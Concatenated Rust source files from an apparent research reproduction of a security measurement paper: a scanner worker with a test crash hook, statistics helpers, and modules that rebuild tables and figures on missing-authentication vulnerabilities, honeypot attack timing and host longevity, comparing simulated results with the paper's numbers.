//! The crash flags are a deterministic fault hook for the recovery
//! tests: the worker exits(1) right after its N-th segment, once per
//! token file, so a test can prove the coordinator requeues and
//! finishes the scan with the respawned worker.

use nokeys::http::transport::TcpTransport;
use nokeys::http::Client;
use nokeys::netsim::{FaultLane, FaultPlan, FaultyTransport, SimTransport, Universe};
use nokeys::scanner::prelude::WorkerSpec;
use nokeys::scanner::prelude::{WorkerCommand, WorkerReply};
use nokeys::scanner::Telemetry;
use nokeys::worker::{run_worker, CrashHook, TransportSpec};
use std::io::BufRead;
use std::sync::mpsc::SyncSender;
use std::sync::Arc;

fn usage() -> ! {
    eprintln!("usage: nokeys-worker [--crash-after N --crash-token FILE]");
    std::process::exit(2);
}

fn parse_crash_hook() -> Option<CrashHook> {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut after = None;
    let mut token = None;
    let mut i = 0;
    while i < argv.len() {
        match argv[i].as_str() {
            "--crash-after" => {
                i += 1;
                after = Some(
                    argv.get(i)
                        .and_then(|s| s.parse().ok())
                        .unwrap_or_else(|| usage()),
                );
            }
            "--crash-token" => {
                i += 1;
                token = Some(argv.get(i).map(Into::into).unwrap_or_else(|| usage()));
            }
            _ => usage(),
        }
        i += 1;
    }
    match (after, token) {
        (Some(after), Some(token)) => Some(CrashHook { after, token }),
        (None, None) => None,
        _ => usage(),
    }
}

fn die(message: &str) -> ! {
    // Fatal setup errors go over the protocol too, so the coordinator
    // logs something better than a bare EOF.
    println!(
        "{}",
        WorkerReply::Error {
            message: message.into(),
        }
        .to_line()
    );
    eprintln!("nokeys-worker: {message}");
    std::process::exit(1);
}

/// Forward stdin lines as parsed commands. Unparseable lines are a
/// protocol error worth dying over — the coordinator and worker must
/// agree on the wire format exactly.
fn pump_commands(tx: SyncSender<WorkerCommand>) {
    let stdin = std::io::stdin().lock();
    for line in stdin.lines() {
        let Ok(line) = line else { break };
        if line.trim().is_empty() {
            continue;
        }
        match WorkerCommand::parse(&line) {
            Ok(cmd) => {
                if tx.send(cmd).is_err() {
                    break;
                }
            }
            Err(e) => {
                eprintln!("nokeys-worker: bad command line: {e}");
                break;
            }
        }
        // Dropping tx closes the channel, which the main loop reads as
        // coordinator loss and exits.
    }
}

fn main() {
    let crash = parse_crash_hook();

    let mut spec_line = String::new();
    if std::io::stdin()
        .read_line(&mut spec_line)
        .map(|n| n == 0)
        .unwrap_or(true)
    {
        die("no worker spec on stdin");
    }
    let spec: WorkerSpec = match serde_json::from_str(spec_line.trim()) {
        Ok(spec) => spec,
        Err(e) => die(&format!("bad worker spec: {e}")),
    };
    let transport = match TransportSpec::from_value(&spec.transport) {
        Ok(t) => t,
        Err(e) => die(&format!("bad transport spec: {e}")),
    };

    let (tx, rx) = std::sync::mpsc::sync_channel(64);
    std::thread::spawn(move || pump_commands(tx));

    // The fault registry only matters for the simulated transport: the
    // in-process engine counts injected faults in its own registry, so
    // the worker must fold the same counters into its segments for the
    // merged telemetry to match. The TCP path mirrors `nokeys-scan`,
    // which attaches no observer.
    let fault_telemetry = Telemetry::new();
    let code = match transport {
        TransportSpec::Tcp {
            fault_rate,
            fault_seed,
        } => {
            let plan = FaultPlan::new(fault_rate, fault_seed);
            let client = Client::new(FaultyTransport::new(TcpTransport::default(), plan));
            run_worker(&client, &spec, &fault_telemetry, &rx, crash.as_ref())
        }
        TransportSpec::Sim {
            universe,
            fault_rate,
            fault_seed,
        } => {
            let mut sim = SimTransport::new(Arc::new(Universe::generate(universe)));
            if fault_rate > 0.0 {
                let probe = fault_telemetry.counter("fault.probe.injected");
                let connect = fault_telemetry.counter("fault.connect.injected");
                sim = sim
                    .with_fault_plan(FaultPlan::new(fault_rate, fault_seed))
                    .with_fault_observer(move |lane| match lane {
                        FaultLane::Probe => probe.incr(),
                        FaultLane::Connect => connect.incr(),
                    });
            }
            let client = Client::new(sim);
            run_worker(&client, &spec, &fault_telemetry, &rx, crash.as_ref())
        }
    };
    std::process::exit(code);
}
