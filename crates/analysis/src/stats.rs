//! Small statistics helpers.

/// Arithmetic mean; 0 for empty input.
pub fn mean(values: &[f64]) -> f64 {
    if values.is_empty() {
        return 0.0;
    }
    values.iter().sum::<f64>() / values.len() as f64
}

/// Median; 0 for empty input.
pub fn median(values: &[f64]) -> f64 {
    if values.is_empty() {
        return 0.0;
    }
    let mut sorted = values.to_vec();
    sorted.sort_by(|a, b| a.partial_cmp(b).expect("finite"));
    let mid = sorted.len() / 2;
    if sorted.len().is_multiple_of(2) {
        (sorted[mid - 1] + sorted[mid]) / 2.0
    } else {
        sorted[mid]
    }
}

/// Consecutive differences (inter-arrival gaps).
pub fn gaps(sorted_values: &[f64]) -> Vec<f64> {
    sorted_values.windows(2).map(|w| w[1] - w[0]).collect()
}

/// Minimum; `None` for empty input.
pub fn min(values: &[f64]) -> Option<f64> {
    values.iter().copied().reduce(f64::min)
}

/// Maximum; `None` for empty input.
pub fn max(values: &[f64]) -> Option<f64> {
    values.iter().copied().reduce(f64::max)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mean_and_median() {
        assert_eq!(mean(&[1.0, 2.0, 3.0]), 2.0);
        assert_eq!(mean(&[]), 0.0);
        assert_eq!(median(&[3.0, 1.0, 2.0]), 2.0);
        assert_eq!(median(&[4.0, 1.0, 2.0, 3.0]), 2.5);
        assert_eq!(median(&[]), 0.0);
    }

    #[test]
    fn gap_computation() {
        assert_eq!(gaps(&[1.0, 3.0, 6.0]), vec![2.0, 3.0]);
        assert!(gaps(&[5.0]).is_empty());
    }

    #[test]
    fn extremes() {
        assert_eq!(min(&[2.0, 1.0, 3.0]), Some(1.0));
        assert_eq!(max(&[2.0, 1.0, 3.0]), Some(3.0));
        assert_eq!(min(&[]), None);
    }
}
