//! Table 1: summary of all investigated applications with their
//! corresponding attack vector and GitHub ranking.

use crate::render::Table;
use nokeys_apps::{DefaultPosture, CATALOG};

/// Build Table 1 from the catalog.
pub fn build() -> Table {
    let mut t = Table::new(
        "Table 1 — Investigated applications (attack vector, defaults, warnings)",
        &["Type", "App", "Stars", "Vuln", "Default MAV", "Warn"],
    );
    for info in &CATALOG {
        let vuln = info.vector.map(|v| v.as_str()).unwrap_or("—");
        let default = match info.default_posture {
            None => "—".to_string(),
            Some(DefaultPosture::SecureByDefault) => "✗".to_string(),
            Some(DefaultPosture::InsecureByDefault) => "✓".to_string(),
            Some(DefaultPosture::ChangedOverTime { fixed_in, year }) => {
                format!("< {fixed_in} ({year})")
            }
        };
        t.row(&[
            info.category.as_str().to_string(),
            info.name.to_string(),
            format!("{}k", info.stars_k),
            vuln.to_string(),
            default,
            info.warning.symbol().to_string(),
        ]);
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn has_25_rows_with_paper_values() {
        let t = build();
        assert_eq!(t.rows.len(), 25);
        let rendered = t.render();
        assert!(rendered.contains("GoCD"));
        assert!(rendered.contains("< 2.0 (2016)"), "Jenkins default change");
        assert!(
            rendered.contains("< 4.6.3 (2018)"),
            "Adminer default change"
        );
    }
}
