//! Analysis: regenerates every table and figure of the paper from the
//! simulation's scan reports, longevity studies, honeypot results and
//! defender scans.
//!
//! Each `tableN`/`figN` module produces a typed result plus an ASCII
//! rendering that shows the measured values side by side with the
//! paper's published numbers, so `EXPERIMENTS.md` can record both.

pub mod case_studies;
pub mod ct_compare;
pub mod fig1;
pub mod fig2;
pub mod fig3;
pub mod fig4;
pub mod longevity_stats;
pub mod race_table;
pub mod render;
pub mod restores;
pub mod rq2;
pub mod scan_model;
pub mod stats;
pub mod table1;
pub mod table10;
pub mod table2;
pub mod table3;
pub mod table4;
pub mod table5;
pub mod table6;
pub mod table7;
pub mod table8;
pub mod table9;

pub use render::Table;
