//! Table 6: time until compromise, in hours.

use crate::render::Table;
use crate::stats::{gaps, max, mean, min};
use nokeys_apps::AppId;
use nokeys_honeypot::StudyResult;
use nokeys_netsim::SimTime;
use std::collections::HashSet;

/// Per-application timing statistics (all in hours).
#[derive(Debug, Clone, PartialEq)]
pub struct CompromiseTiming {
    pub app: AppId,
    /// Hours from study start to the first attack.
    pub first: f64,
    /// Mean gap between consecutive attacks.
    pub average: f64,
    /// Shortest / longest / mean gap between *unique* attacks (first
    /// appearance of a new payload).
    pub unique_shortest: f64,
    pub unique_longest: f64,
    pub unique_average: f64,
}

/// Compute the timing stats for `app`; `None` when it was never attacked.
pub fn timing(result: &StudyResult, app: AppId) -> Option<CompromiseTiming> {
    let mut times: Vec<f64> = result
        .attacks_on(app)
        .map(|a| a.start.since(SimTime::HONEYPOT_START).as_hours_f64())
        .collect();
    if times.is_empty() {
        return None;
    }
    times.sort_by(|a, b| a.partial_cmp(b).expect("finite"));
    let first = times[0];
    let all_gaps = gaps(&times);

    // Unique attacks: first time each payload shows up on this app.
    let mut seen: HashSet<&str> = HashSet::new();
    let mut unique_times: Vec<f64> = Vec::new();
    let mut ordered: Vec<_> = result.attacks_on(app).collect();
    ordered.sort_by_key(|a| a.start);
    for a in ordered {
        let mut is_new = false;
        for p in &a.payloads {
            if seen.insert(p) {
                is_new = true;
            }
        }
        if is_new {
            unique_times.push(a.start.since(SimTime::HONEYPOT_START).as_hours_f64());
        }
    }
    // The paper measures unique-attack gaps from the study start (its
    // GravCMS row shows 355.1 in every column), so prepend t=0.
    let mut anchored = vec![0.0];
    anchored.extend(unique_times.iter().copied());
    let unique_gaps = gaps(&anchored);
    let (us, ul, ua) = (
        min(&unique_gaps).expect("at least one unique attack"),
        max(&unique_gaps).expect("at least one unique attack"),
        mean(&unique_gaps),
    );
    Some(CompromiseTiming {
        app,
        first,
        average: if all_gaps.is_empty() {
            first
        } else {
            mean(&all_gaps)
        },
        unique_shortest: us,
        unique_longest: ul,
        unique_average: ua,
    })
}

/// Paper values: (app, first, avg, uniq shortest, uniq longest, uniq avg).
pub const PAPER: [(AppId, f64, f64, f64, f64, f64); 7] = [
    (AppId::Jenkins, 172.4, 159.9, 90.1, 377.0, 213.1),
    (AppId::WordPress, 2.8, 70.7, 2.8, 451.0, 159.2),
    (AppId::Grav, 355.1, 355.1, 355.1, 355.1, 355.1),
    (AppId::Docker, 6.7, 5.0, 6.5, 193.2, 59.4),
    (AppId::Hadoop, 0.8, 0.3, 0.7, 94.3, 18.0),
    (AppId::JupyterLab, 133.7, 22.6, 2.5, 173.0, 50.4),
    (AppId::JupyterNotebook, 48.0, 6.7, 0.1, 58.8, 13.4),
];

/// Build Table 6.
pub fn build(result: &StudyResult) -> Table {
    let mut t = Table::new(
        "Table 6 — Time until compromise in hours (measured | paper)",
        &[
            "App",
            "First",
            "Average",
            "Uniq shortest",
            "Uniq longest",
            "Uniq average",
        ],
    );
    for (app, pf, pa, ps, pl, pm) in PAPER {
        let Some(m) = timing(result, app) else {
            t.row(&[
                app.name().to_string(),
                "—".into(),
                "—".into(),
                "—".into(),
                "—".into(),
                "—".into(),
            ]);
            continue;
        };
        let cell = |measured: f64, paper: f64| format!("{measured:.1} | {paper:.1}");
        t.row(&[
            app.name().to_string(),
            cell(m.first, pf),
            cell(m.average, pa),
            cell(m.unique_shortest, ps),
            cell(m.unique_longest, pl),
            cell(m.unique_average, pm),
        ]);
    }
    t
}
