//! Figure 2: longevity of detected MAVs — percentage of hosts
//! vulnerable / fixed / offline over four weeks, grouped by application
//! category and by defaults.

use crate::render::{sparkline, Table};
use nokeys_apps::Category;
use nokeys_scanner::observer::{LongevityStudy, ObservedStatus};

/// Fraction of a subset of timelines in `status` at every observation
/// point.
fn series(
    study: &LongevityStudy,
    status: ObservedStatus,
    filter: &dyn Fn(usize) -> bool,
) -> Vec<f64> {
    let selected: Vec<usize> = (0..study.timelines.len()).filter(|i| filter(*i)).collect();
    if selected.is_empty() {
        return vec![0.0; study.times_secs.len()];
    }
    (0..study.times_secs.len())
        .map(|t| {
            // Ragged timelines (hosts an incremental rescan stopped
            // probing as terminally offline) have no entry at `t`;
            // read the gap as offline, like `counts_at` does.
            let hits = selected
                .iter()
                .filter(|&&i| {
                    study.timelines[i]
                        .statuses
                        .get(t)
                        .copied()
                        .unwrap_or(ObservedStatus::Offline)
                        == status
                })
                .count();
            hits as f64 / selected.len() as f64
        })
        .collect()
}

/// Sample a series at (roughly) weekly points for tabular output.
fn weekly(series: &[f64]) -> Vec<f64> {
    if series.is_empty() {
        return Vec::new();
    }
    let last = series.len() - 1;
    [0usize, last / 4, last / 2, 3 * last / 4, last]
        .iter()
        .map(|&i| series[i])
        .collect()
}

/// Build the Figure 2 table.
pub fn build(study: &LongevityStudy) -> Table {
    let mut t = Table::new(
        "Figure 2 — Longevity of detected MAVs (fractions at start/w1/w2/w3/w4 + sparkline)",
        &["Series", "t0", "w1", "w2", "w3", "w4", "trend"],
    );
    let mut push = |label: &str, s: Vec<f64>| {
        let w = weekly(&s);
        let mut row = vec![label.to_string()];
        row.extend(w.iter().map(|v| format!("{:.0}%", v * 100.0)));
        row.push(sparkline(
            &s.iter()
                .step_by(8.max(s.len() / 40))
                .copied()
                .collect::<Vec<_>>(),
        ));
        t.row(&row);
    };

    let all = |_: usize| true;
    push(
        "All vulnerable",
        series(study, ObservedStatus::Vulnerable, &all),
    );
    push("All fixed", series(study, ObservedStatus::Fixed, &all));
    push("All offline", series(study, ObservedStatus::Offline, &all));

    for cat in Category::ALL {
        let filter =
            move |i: usize| -> bool { study.timelines[i].finding.app.info().category == cat };
        push(
            &format!("{} vulnerable", cat.as_str()),
            series(study, ObservedStatus::Vulnerable, &filter),
        );
    }

    // Per-application rows (the paper's left column), for the
    // applications with enough vulnerable instances to draw a curve.
    for app in nokeys_apps::AppId::in_scope() {
        let population = study
            .timelines
            .iter()
            .filter(|t| t.finding.app == app)
            .count();
        if population < 20 {
            continue;
        }
        let filter = move |i: usize| study.timelines[i].finding.app == app;
        push(
            &format!("{} vulnerable", app.name()),
            series(study, ObservedStatus::Vulnerable, &filter),
        );
    }

    for (label, want_default) in [("Insecure-by-default", true), ("Modified", false)] {
        let filter = move |i: usize| study.timelines[i].insecure_by_default == want_default;
        push(
            &format!("{label} vulnerable"),
            series(study, ObservedStatus::Vulnerable, &filter),
        );
        push(
            &format!("{label} fixed"),
            series(study, ObservedStatus::Fixed, &filter),
        );
        push(
            &format!("{label} offline"),
            series(study, ObservedStatus::Offline, &filter),
        );
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_http::{Endpoint, Scheme};
    use nokeys_scanner::observer::HostTimeline;
    use nokeys_scanner::{FingerprintMethod, HostFinding};
    use std::net::Ipv4Addr;

    fn study() -> LongevityStudy {
        let finding = HostFinding {
            endpoint: Endpoint::new(Ipv4Addr::new(20, 0, 0, 1), 8088),
            scheme: Scheme::Http,
            app: nokeys_apps::AppId::Hadoop,
            vulnerable: true,
            version: None,
            fingerprint_method: None::<FingerprintMethod>,
        };
        LongevityStudy {
            times_secs: vec![0, 1, 2, 3, 4],
            timelines: vec![
                HostTimeline {
                    finding: finding.clone(),
                    insecure_by_default: true,
                    // Truncated after two offline rounds, the way an
                    // incremental rescan leaves terminally-offline
                    // hosts; the missing tail reads as offline.
                    statuses: vec![
                        ObservedStatus::Vulnerable,
                        ObservedStatus::Vulnerable,
                        ObservedStatus::Offline,
                        ObservedStatus::Offline,
                    ],
                    updated: false,
                    asset_hashes: Vec::new(),
                },
                HostTimeline {
                    finding,
                    insecure_by_default: false,
                    statuses: vec![ObservedStatus::Vulnerable; 5],
                    updated: false,
                    asset_hashes: Vec::new(),
                },
            ],
        }
    }

    #[test]
    fn series_fractions() {
        let s = study();
        let v = series(&s, ObservedStatus::Vulnerable, &|_| true);
        assert_eq!(v, vec![1.0, 1.0, 0.5, 0.5, 0.5]);
        let o = series(&s, ObservedStatus::Offline, &|i| i == 0);
        assert_eq!(o, vec![0.0, 0.0, 1.0, 1.0, 1.0]);
    }

    #[test]
    fn build_renders_all_series() {
        let t = build(&study());
        let s = t.render();
        assert!(s.contains("All vulnerable"));
        assert!(s.contains("Insecure-by-default fixed"));
        assert!(s.contains("NB vulnerable"));
    }
}
