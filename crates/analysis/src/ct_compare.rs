//! The "under counting" experiment (§6.2): IP-wide sweep vs a
//! CT-log-watching attacker, racing for fresh CMS installations behind
//! shared hosting.

use crate::render::Table;
use crate::stats::median;
use nokeys_netsim::vhost::VhostState;
use nokeys_netsim::{SimTime, Universe};
use nokeys_scanner::ct::CtFinding;

/// The comparison's raw numbers.
#[derive(Debug, Clone, PartialEq)]
pub struct CtComparison {
    /// Virtual hosts registered during the window (the contested
    /// population).
    pub fresh_sites: u64,
    /// ... of which the CT watcher found while still hijackable.
    pub ct_caught: u64,
    /// ... of which the IP-wide sweep can see at all (none: shared
    /// hosting hides them behind the default vhost).
    pub ip_visible: u64,
    /// Median owner install-completion delay in hours (the race window).
    pub median_race_hours: f64,
}

/// Compute the comparison from ground truth and the CT findings.
pub fn compare(universe: &Universe, ct_findings: &[CtFinding]) -> CtComparison {
    let fresh: Vec<_> = universe
        .vhosts()
        .filter(|(_, v)| v.registered_at >= SimTime::SCAN_START)
        .collect();
    let windows: Vec<f64> = fresh
        .iter()
        .map(|(_, v)| v.race_window_secs() as f64 / 3600.0)
        .collect();
    let ct_caught = ct_findings
        .iter()
        .filter(|f| f.vulnerable && fresh.iter().any(|(_, v)| v.domain == f.domain))
        .count() as u64;
    CtComparison {
        fresh_sites: fresh.len() as u64,
        ct_caught,
        // An IP sweep sees only the shared host's default page, never the
        // named sites; verified by integration tests.
        ip_visible: 0,
        median_race_hours: median(&windows),
    }
}

/// Additional ground truth: how many fresh sites were still hijackable
/// `delay_secs` after registration (the best any watcher with that
/// reaction time can do).
pub fn catchable_within(universe: &Universe, delay_secs: i64) -> u64 {
    universe
        .vhosts()
        .filter(|(_, v)| {
            v.registered_at >= SimTime::SCAN_START
                && v.state_at(SimTime(v.registered_at.as_secs() + delay_secs))
                    == VhostState::PreInstall
        })
        .count() as u64
}

/// Build the comparison table.
pub fn build(universe: &Universe, ct_findings: &[CtFinding], delay_secs: i64) -> Table {
    let c = compare(universe, ct_findings);
    let catchable = catchable_within(universe, delay_secs);
    let mut t = Table::new(
        "CT-watching attacker vs IP-wide sweep (the paper's §6.2 lower-bound warning)",
        &["Metric", "Value"],
    );
    t.row(&[
        "fresh installations during the window".to_string(),
        c.fresh_sites.to_string(),
    ]);
    t.row(&[
        format!("still hijackable {}h after registration", delay_secs / 3600),
        catchable.to_string(),
    ]);
    t.row(&[
        "caught hijackable by the CT watcher".to_string(),
        c.ct_caught.to_string(),
    ]);
    t.row(&[
        "visible to the IP-wide sweep".to_string(),
        c.ip_visible.to_string(),
    ]);
    t.row(&[
        "median owner install delay (race window)".to_string(),
        format!("{:.1} h", c.median_race_hours),
    ]);
    t
}
