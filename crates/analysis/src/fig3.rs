//! Figure 3: distribution of attacks during the four weeks — new attacks
//! (previously unseen payload) vs repeated attacks with known payloads,
//! per application over time.

use crate::render::Table;
use nokeys_apps::AppId;
use nokeys_honeypot::StudyResult;
use nokeys_netsim::SimTime;
use std::collections::HashSet;

/// Per-day counts of new/repeated attacks for one application.
#[derive(Debug, Clone)]
pub struct Timeline {
    pub app: AppId,
    /// `(new, repeated)` per study day (28 entries).
    pub days: Vec<(u32, u32)>,
}

/// Compute the timeline of `app`.
pub fn timeline(result: &StudyResult, app: AppId) -> Timeline {
    let mut days = vec![(0u32, 0u32); 28];
    let mut seen: HashSet<&str> = HashSet::new();
    let mut ordered: Vec<_> = result.attacks_on(app).collect();
    ordered.sort_by_key(|a| a.start);
    for a in ordered {
        let day = (a.start.since(SimTime::HONEYPOT_START).as_secs() / 86_400).clamp(0, 27) as usize;
        let mut is_new = false;
        for p in &a.payloads {
            if seen.insert(p) {
                is_new = true;
            }
        }
        if is_new {
            days[day].0 += 1;
        } else {
            days[day].1 += 1;
        }
    }
    Timeline { app, days }
}

/// Render one week-row per app: `*` new attacks, `.` repeated (capped at
/// 9 per day for display).
pub fn build(result: &StudyResult) -> Table {
    let mut t = Table::new(
        "Figure 3 — Attack timeline (per day: new*/repeated count)",
        &["App", "Week 1", "Week 2", "Week 3", "Week 4"],
    );
    for (app, _, _, _) in crate::table5::PAPER.map(|(a, x, y, z)| (a, x, y, z)) {
        let tl = timeline(result, app);
        let mut weeks: Vec<String> = Vec::new();
        for w in 0..4 {
            let mut cells: Vec<String> = Vec::new();
            for d in 0..7 {
                let (new, rep) = tl.days[w * 7 + d];
                cells.push(match (new, rep) {
                    (0, 0) => "·".to_string(),
                    (n, 0) => format!("{}*", n.min(99)),
                    (0, r) => format!("{}", r.min(99)),
                    (n, r) => format!("{}*{}", n.min(99), r.min(99)),
                });
            }
            weeks.push(cells.join(" "));
        }
        t.row(&[
            app.name().to_string(),
            weeks[0].clone(),
            weeks[1].clone(),
            weeks[2].clone(),
            weeks[3].clone(),
        ]);
    }
    t
}
