//! Table 3: prevalence of AWEs and their MAVs.

use crate::render::{grouped, pct, Table};
use nokeys_apps::AppId;
use nokeys_netsim::calibration::{app_population, TOTAL_AWE_HOSTS, TOTAL_MAVS};
use nokeys_scanner::ScanReport;

/// Build Table 3 from a scan report. `benign_divisor`/`mav_divisor` are
/// the universe scales; the vulnerable percentage is computed on
/// *rescaled* counts so it is comparable with the paper despite the
/// differential scaling.
pub fn build(report: &ScanReport, benign_divisor: u64, mav_divisor: u64) -> Table {
    let mut t = Table::new(
        format!(
            "Table 3 — AWE prevalence and MAVs (benign 1:{benign_divisor}, MAVs 1:{mav_divisor})"
        ),
        &[
            "Type",
            "App",
            "# Hosts",
            "# MAVs",
            "% vuln (rescaled)",
            "Default",
            "paper Hosts",
            "paper MAVs",
        ],
    );
    let mut total_hosts = 0u64;
    let mut total_mavs = 0u64;
    for app in AppId::in_scope() {
        let hosts = report.hosts_running(app);
        let mavs = report.mavs(app);
        total_hosts += hosts;
        total_mavs += mavs;
        let benign = hosts.saturating_sub(mavs);
        let rescaled_hosts = benign * benign_divisor + mavs * mav_divisor;
        let pop = app_population(app).expect("in-scope app");
        let posture = app
            .info()
            .default_posture
            .map(|p| p.symbol())
            .unwrap_or("—");
        t.row(&[
            app.info().category.as_str().to_string(),
            app.name().to_string(),
            grouped(hosts),
            grouped(mavs),
            pct(mavs * mav_divisor, rescaled_hosts.max(1)),
            posture.to_string(),
            grouped(pop.hosts),
            grouped(pop.mavs),
        ]);
    }
    t.row(&[
        "".to_string(),
        "Total".to_string(),
        grouped(total_hosts),
        grouped(total_mavs),
        String::new(),
        String::new(),
        grouped(TOTAL_AWE_HOSTS),
        grouped(TOTAL_MAVS),
    ]);
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_18_apps_plus_total() {
        let t = build(&ScanReport::default(), 100, 1);
        assert_eq!(t.rows.len(), 19);
        let s = t.render();
        assert!(s.contains("Phpmyadmin"));
        assert!(s.contains("1,462,625"), "paper WordPress host count shown");
    }
}
