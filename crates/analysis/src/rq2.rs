//! RQ2: how up-to-date is the deployed software?
//!
//! The paper reports: ~65% of discovered versions released/updated within
//! the last 6 months (dominated by auto-updating WordPress), ~25% from
//! 2020, ~10% older; per category, CMSes are newest (median May 2021), CI
//! and CM January 2021, notebooks January 2020, control panels the oldest
//! (median before September 2019).

use crate::render::{pct, Table};
use crate::stats::median;
use nokeys_apps::{Category, ReleaseDate};
use nokeys_scanner::ScanReport;

/// The scan ran June 2021; "recent" means within the preceding 6 months.
pub const SCAN_DATE: ReleaseDate = ReleaseDate::new(2021, 6);

/// Freshness buckets of the fingerprinted versions.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Freshness {
    /// Released within the last six months.
    pub recent: u64,
    /// Released in 2020 (but more than six months ago).
    pub from_2020: u64,
    /// Released before 2020.
    pub older: u64,
}

impl Freshness {
    pub fn total(&self) -> u64 {
        self.recent + self.from_2020 + self.older
    }
}

/// Classify all fingerprinted findings.
pub fn freshness(report: &ScanReport) -> Freshness {
    let mut out = Freshness::default();
    for f in &report.findings {
        let Some(date) = f.release_date() else {
            continue;
        };
        if date.months_until(SCAN_DATE) <= 6 {
            out.recent += 1;
        } else if date.year == 2020 {
            out.from_2020 += 1;
        } else {
            out.older += 1;
        }
    }
    out
}

/// Median release date per category, in months before the scan.
pub fn median_age_months(report: &ScanReport, cat: Category) -> Option<f64> {
    let ages: Vec<f64> = report
        .findings
        .iter()
        .filter(|f| f.app.info().category == cat)
        .filter_map(|f| f.release_date())
        .map(|d| d.months_until(SCAN_DATE) as f64)
        .collect();
    if ages.is_empty() {
        None
    } else {
        Some(median(&ages))
    }
}

/// Convert an age in months before the scan back into a year-month label.
fn age_label(months: f64) -> String {
    let total = SCAN_DATE.months_since_2000() - months.round() as i32;
    format!("{:04}-{:02}", 2000 + total / 12, total % 12 + 1)
}

/// Build the RQ2 table.
pub fn build(report: &ScanReport) -> Table {
    let f = freshness(report);
    let mut t = Table::new(
        "RQ2 — Deployed software freshness (paper: ~65% recent, ~25% from 2020, ~10% older)",
        &["Metric", "Measured", "Share"],
    );
    t.row(&[
        "released within 6 months".to_string(),
        f.recent.to_string(),
        pct(f.recent, f.total()),
    ]);
    t.row(&[
        "released in 2020".to_string(),
        f.from_2020.to_string(),
        pct(f.from_2020, f.total()),
    ]);
    t.row(&[
        "released before 2020".to_string(),
        f.older.to_string(),
        pct(f.older, f.total()),
    ]);
    let paper_medians = [
        (Category::Cms, "2021-05"),
        (Category::Ci, "2021-01"),
        (Category::Cm, "2021-01"),
        (Category::Nb, "2020-01"),
        (Category::Cp, "< 2019-09"),
    ];
    for (cat, paper) in paper_medians {
        let label = median_age_months(report, cat)
            .map(age_label)
            .unwrap_or_else(|| "—".to_string());
        t.row(&[
            format!("median release, {}", cat.as_str()),
            label,
            format!("paper: {paper}"),
        ]);
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_http::{Endpoint, Scheme};
    use nokeys_scanner::HostFinding;
    use std::net::Ipv4Addr;

    fn finding(app: nokeys_apps::AppId, version_index: usize) -> HostFinding {
        HostFinding {
            endpoint: Endpoint::new(Ipv4Addr::new(20, 0, 0, 1), 80),
            scheme: Scheme::Http,
            app,
            vulnerable: false,
            version: Some(nokeys_apps::version_at(app, version_index)),
            fingerprint_method: None,
        }
    }

    #[test]
    fn freshness_classifies_by_release_date() {
        use nokeys_apps::AppId;
        let newest = nokeys_apps::release_history(AppId::Kubernetes).len() - 1;
        let report = ScanReport {
            findings: vec![
                finding(AppId::Kubernetes, newest),
                finding(AppId::Kubernetes, 0),
            ],
            ..Default::default()
        };
        let f = freshness(&report);
        assert_eq!(f.recent, 1);
        assert_eq!(f.older, 1);
        assert_eq!(f.total(), 2);
    }

    #[test]
    fn age_labels_convert_back() {
        assert_eq!(age_label(0.0), "2021-06");
        assert_eq!(age_label(6.0), "2020-12");
        assert_eq!(age_label(17.0), "2020-01");
    }

    #[test]
    fn median_age_requires_findings() {
        let report = ScanReport::default();
        assert_eq!(median_age_months(&report, Category::Cms), None);
    }
}
