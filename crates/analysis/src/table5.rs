//! Table 5: attacks distributed across applications.

use crate::render::Table;
use nokeys_apps::AppId;
use nokeys_honeypot::cluster::{unique_attacks, unique_ips};
use nokeys_honeypot::StudyResult;
use std::collections::BTreeSet;
use std::net::Ipv4Addr;

/// Paper values: (app, attacks, unique attacks, unique IPs).
pub const PAPER: [(AppId, usize, usize, usize); 7] = [
    (AppId::Jenkins, 4, 3, 3),
    (AppId::WordPress, 9, 4, 5),
    (AppId::Grav, 1, 1, 1),
    (AppId::Docker, 132, 12, 22),
    (AppId::Hadoop, 1921, 49, 81),
    (AppId::JupyterLab, 29, 13, 13),
    (AppId::JupyterNotebook, 99, 50, 50),
];

/// Build Table 5 from the study result.
pub fn build(result: &StudyResult) -> Table {
    let mut t = Table::new(
        "Table 5 — Attacks per application (measured vs paper)",
        &["Type", "App", "# Attacks", "# Uniq", "# IPs", "paper A/U/I"],
    );
    for (app, pa, pu, pi) in PAPER {
        let attacks = result.attacks_on(app).count();
        let uniq = unique_attacks(&result.attacks, app);
        let ips = unique_ips(&result.attacks, app);
        t.row(&[
            app.info().category.as_str().to_string(),
            app.name().to_string(),
            attacks.to_string(),
            uniq.to_string(),
            ips.to_string(),
            format!("{pa}/{pu}/{pi}"),
        ]);
    }
    let total = result.attacks.len();
    let total_ips: BTreeSet<Ipv4Addr> = result.attacks.iter().map(|a| a.source).collect();
    let total_payloads: BTreeSet<&str> = result
        .attacks
        .iter()
        .flat_map(|a| a.payloads.iter().map(String::as_str))
        .collect();
    t.row(&[
        "".to_string(),
        "Total".to_string(),
        total.to_string(),
        total_payloads.len().to_string(),
        total_ips.len().to_string(),
        "2195/122/160".to_string(),
    ]);
    t
}
