//! Rendering of the scan-vs-compromise race (Section 5).

use crate::render::Table;
use nokeys_defend::{lost_races, race, CommercialScanner};
use nokeys_honeypot::StudyResult;

/// Build the race table for one scanner model.
pub fn build(scanner: &CommercialScanner, study: &StudyResult) -> Table {
    let outcomes = race(scanner, study);
    let lost = lost_races(&outcomes);
    let mut t = Table::new(
        format!(
            "Scan race — {} ({:.0}h sweep): {} honeypots compromised before the scanner arrived",
            scanner.name, scanner.scan_duration_hours, lost
        ),
        &["App", "Scanner arrives", "First compromise", "Winner"],
    );
    for o in outcomes {
        let compromise = o
            .first_compromise_hours
            .map(|h| format!("{h:.1} h"))
            .unwrap_or_else(|| "never attacked".to_string());
        let winner = if o.compromised_before_scan {
            "attacker"
        } else if o.first_compromise_hours.is_some() {
            "scanner"
        } else {
            "—"
        };
        t.row(&[
            o.app.name().to_string(),
            format!("{:.1} h", o.scanner_arrives_hours),
            compromise,
            winner.to_string(),
        ]);
    }
    t
}
