//! Table 9: the combined summary — defaults, prevalence, attacks and
//! defender detection.

use crate::render::Table;
use nokeys_apps::AppId;
